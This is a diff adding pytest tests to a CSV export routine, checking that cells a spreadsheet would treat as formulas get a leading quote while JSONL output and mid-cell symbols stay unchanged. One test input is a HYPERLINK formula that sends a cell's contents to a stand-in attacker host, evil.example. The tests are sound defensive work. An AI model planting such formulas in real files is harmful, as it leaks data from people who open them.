@@ -299,3 +299,26 @@ def test_exported_csv_reads_back_as_input() -> None:
     write_results_csv(out, BATCH, RESULTS)
     again = read_csv(out.getvalue())
     assert [row["text"] for row in again.rows] == ["a", "b\nc", "d"]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(start: str) -> None:
+    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    batch = BatchInput(("text",), ({"text": hostile},))
+    results = {0: RowResult(0, "done", text=hostile, model="m")}
+    out = io.StringIO()
+    write_results_csv(out, batch, results)
+    table = list(csv.reader(io.StringIO(out.getvalue())))
+    assert table[1][1] == "'" + hostile  # the input column
+    assert table[1][3] == "'" + hostile  # the model's output
+    plain = io.StringIO()
+    write_results_jsonl(plain, batch, results)
+    assert json.loads(plain.getvalue())["output"] == hostile  # JSONL is data, not a sheet
+
+
+def test_csv_cells_with_a_formula_start_inside_are_left_alone() -> None:
+    batch = BatchInput(("text",), ({"text": "a=b, 1+1 -x @y"},))
+    out = io.StringIO()
+    write_results_csv(out, batch, {0: RowResult(0, "done", text="3 - 2 = 1")})
+    table = list(csv.reader(io.StringIO(out.getvalue())))
+    assert table[1][1] == "a=b, 1+1 -x @y" and table[1][3] == "3 - 2 = 1"
